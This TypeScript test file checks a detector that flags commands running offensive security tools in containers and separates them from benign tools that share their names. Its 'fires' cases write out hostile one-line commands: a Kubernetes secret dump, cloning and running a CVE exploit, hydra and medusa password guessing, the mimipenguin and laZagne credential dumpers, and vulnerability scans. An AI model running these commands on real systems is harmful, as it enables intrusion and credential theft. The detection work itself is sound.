import assert from 'node:assert/strict';
import { test } from 'node:test';
import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandOffensiveTool, MORE_OFFENSIVE_PROGRAMS, OFFENSIVE_PROGRAMS } from './offensive-tool.ts';

indicatorTable(commandOffensiveTool, {
  fires: {
    'a tool that breaks out of containers': script('./cdk evaluate --full; ./cdk run k8s-secret-dump auto'),
    'a search engine for open hosts': script(
      'curl -s "https://api.shodan.io/shodan/host/search?key=$K&query=port:10250"',
    ),
    'an exploit by the number of its weakness': script(
      'git clone https://github.com/x/CVE-2023-0386 /e && make -C /e && /e/exp',
    ),
    'a scanner': runs('nmap', '-p', '10250', '192.0.2.0/24'),
    'a scanner behind xargs': script('ip -o addr | xargs -n 1 nmap'),
    'a guesser of passwords': runs('hydra', '-L', 'users.txt', '-P', 'words.txt', 'ssh://192.0.2.7'),
    'a guesser whose target comes first': runs('hydra', 'db', 'mysql', '-l', 'root', '-Pwords.txt'),
    'a guesser with options in one word': runs('hydra', 'janitor', 'ssh', '-vl', 'root', '-p', 'root'),
    'a guesser whose options nobody has seen': script('hydra serve $OPTIONS'),
    'another guesser': runs('medusa', '-h', '192.0.2.7', '-u', 'root', '-P', 'words.txt', '-M', 'ssh'),
    'one that is a script': script('sh /tmp/m/mimipenguin.sh > /tmp/o'),
    'one in another language': runs('python3', '/opt/laZagne.py', 'all'),
    'an attack on a cloud account': script('./stratus detonate aws.discovery.ec2-enumerate-from-instance'),
    'an installation': script('apk add --no-cache curl nmap && sleep 3600'),
    'all ports of a host': script('nmap -p- shop.example.com'),
    'a host by its address': script('nmap -p 443 203.0.113.7'),
    'exploits against a port': script('nmap -p 445 --script smb-vuln-ms17-010 files.example.com'),
    'a scan of a whole network that is compared': script('nmap -oX /b/n 10.0.0.0/8; ndiff /b/o /b/n'),
    'a scan with scripts that is compared': script('nmap --script vuln -oX /b/n 192.0.2.0/28; ndiff /b/o /b/n'),
  },
  staysSilent: {
    'a scan of own public addresses, compared with the last one': script(
      'nmap -sS -Pn --top-ports 1000 -oX /b/n 192.0.2.0/27 www.example.com; ndiff /b/o /b/n',
    ),
    'the certificate of a host of the own': script(
      'nmap -Pn -sT -p 443 --script ssl-cert,ssl-enum-ciphers www.example.com',
    ),
    'whether a port is open': script('nmap -p5432 db.shop.example.com | grep open'),
    'another program of that name': runs('stratus', 'serve'),
    'persons who are named like a tool': script('useradd john; su john -c date; cat /home/john/stratus'),
    'a tool of the same name that deploys': script('cdk synth && cdk deploy --all --require-approval never'),
    'the site of one': script('curl -s https://www.shodan.io/'),
    'an OAuth server of the same name': runs('hydra', 'serve', 'all', '--config', '/etc/hydra.yaml'),
    'a client of it, which is told where it is': runs('hydra', 'clients', 'list', '--endpoint=http://hydra-admin:4445'),
    'its clean-up': runs('hydra', 'janitor', '--tokens', '-e'),
    'its options before the command': runs('hydra', '--config', '/etc/hydra.yaml', 'migrate', 'sql', '-e', '--yes'),
    'a backup tool of the same name': runs('medusa', '--config-file=/etc/medusa.ini', 'backup', '--backup-name=b1'),
    'a value that nobody has seen, behind an option': runs('hydra', 'janitor', '--tokens', '--limit', '$(LIMIT)'),
    'a shop of the same name': runs('medusa', 'db:migrate'),
    'what is known of a weakness': script('curl -s https://feeds.example.com/cve/CVE-2024-21626.json | jq .'),
    'a change against a weakness': script('curl -sO https://example.com/fixes/CVE-2024-21626-runc.patch'),
    'a script whose name says little': runs('python3', '/app/responder.py'),
    'a tool as the name of a file': script('cat /data/nmap'),
    'an ordinary installation': script('apk add curl jq'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});

for (const program of [...OFFENSIVE_PROGRAMS, ...MORE_OFFENSIVE_PROGRAMS]) {
  test(`${program} is known`, () => assert.equal(commandOffensiveTool.assess(runs(program)).kind, 'hit'));
}
